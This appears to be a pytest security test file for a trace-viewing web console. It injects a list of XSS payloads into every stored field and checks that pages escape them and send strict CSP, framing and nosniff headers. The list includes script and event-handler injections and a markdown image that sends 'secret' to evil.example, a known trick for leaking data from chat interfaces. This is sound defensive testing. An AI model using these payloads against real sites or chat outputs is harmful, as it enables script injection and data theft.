"""Text of questions, answers, documents, names and keys is text on every page and data in every reply."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from gonogo.domain import Chunk, Finding, RetrievedChunk, Score

ATTACKS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)", "<iframe srcdoc='<script>1</script>'>", "</style><script>1</script>",
    "<a href='https://evil.example'>x</a>", "{{ 7*7 }}", "<!--", "]]>", "\u202e<u>x",
)  # fmt: skip


async def told(api, attack):
    chunk = Chunk(id="c", source=attack, title=attack, heading=attack, text=attack, line=1)
    return await api.trace(
        question=attack, answer=attack, error=attack, user=attack, session=attack,
        chunks=(RetrievedChunk(chunk=chunk, score=1.0, rank=1),), citations=(attack,),
        findings=(
            Finding(check=attack, stage="input", action="flag", where=attack, score=1.0, kind=attack, excerpt=attack),
        ),
        scores=(Score(metric=attack, value=1.0, detail=attack),),
        messages=({"role": "user", "content": attack},),
    )  # fmt: skip


class Page(HTMLParser):
    """The tags of a page with their attributes, as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
async def test_no_page_gives_markup_of_others(live, attack):
    plain, attacked = await live.trace(), await told(live, attack)
    for path in ("/", f"/traces/{attacked.id}"):
        shown = Page((await live("GET", path)).body.decode())
        assert not {tag for tag, _ in shown.tags} & {"script", "iframe", "object", "embed", "u", "form", "base"}
        for tag, attributes in shown.tags:
            assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
            assert "srcdoc" not in attributes
            for name in ("href", "src", "action"):
                address = attributes.get(name)
                assert address is None or address.startswith(("/", "#")), (tag, address)
                assert address is None or not address.startswith("//"), (tag, address)
            assert tag != "img" or str(attributes["src"]).startswith("/static/")
    assert (await live("GET", f"/traces/{plain.id}")).status == 200


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_reply_of_the_api_is_data_that_no_browser_takes_for_a_page(live, attack):
    trace = await told(live, attack)
    for path in (f"/api/traces/{trace.id}", "/api/traces", f"/api/traces/{live.quote(attack, safe='')}"):
        answered = await live("GET", path)
        assert answered.headers["content-type"] == "application/json"
        assert answered.headers["x-content-type-options"] == "nosniff"


async def test_every_page_has_a_policy_without_scripts_and_without_foreign_addresses(live):
    trace = await live.trace()
    verdict = (await live("GET", "/api/verdicts/support@1")).json["id"]
    for path in ("/", f"/traces/{trace.id}", "/versions/support@1", f"/verdicts/{verdict}", "/static/console.css"):
        answered = await live("GET", path)
        assert answered.status == 200
        policy = answered.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        assert "unsafe-inline" not in policy
        assert "http" not in policy
        assert "frame-ancestors 'none'" in policy
        assert answered.headers["x-frame-options"] == "DENY"
        assert answered.headers["referrer-policy"] == "no-referrer"
